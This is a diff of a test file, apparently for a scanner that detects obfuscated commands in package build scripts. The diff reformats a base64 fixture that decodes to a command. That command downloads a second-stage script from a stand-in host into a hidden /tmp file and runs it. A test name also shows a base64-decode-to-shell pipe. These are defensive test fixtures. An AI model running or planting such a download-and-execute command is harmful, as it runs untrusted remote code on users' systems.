@@ -10,7 +10,8 @@ function inPackage(line: string) {
   return { flags: checkObfuscation(riskInput(cand, prev)), line: lineOf(cand.PKGBUILD, line) };
 }
 
-const BLOB = 'ZWNobyAiaGVsbG8iOyBjdXJsIC1zIGh0dHBzOi8vZXhhbXBsZS5vcmcvc3RhZ2UyLnNoIC1vIC90bXAvLnN0YWdlMjsgY2htb2QgK3ggL3RtcC8uc3RhZ2UyOyAvdG1wLy5zdGFnZTIgJg==';
+const BLOB =
+  'ZWNobyAiaGVsbG8iOyBjdXJsIC1zIGh0dHBzOi8vZXhhbXBsZS5vcmcvc3RhZ2UyLnNoIC1vIC90bXAvLnN0YWdlMjsgY2htb2QgK3ggL3RtcC8uc3RhZ2UyOyAvdG1wLy5zdGFnZTIgJg==';
 
 describe('obfuscation', () => {
   it('flags `echo aGVsbG8= | base64 -d | sh` (high)', () => {
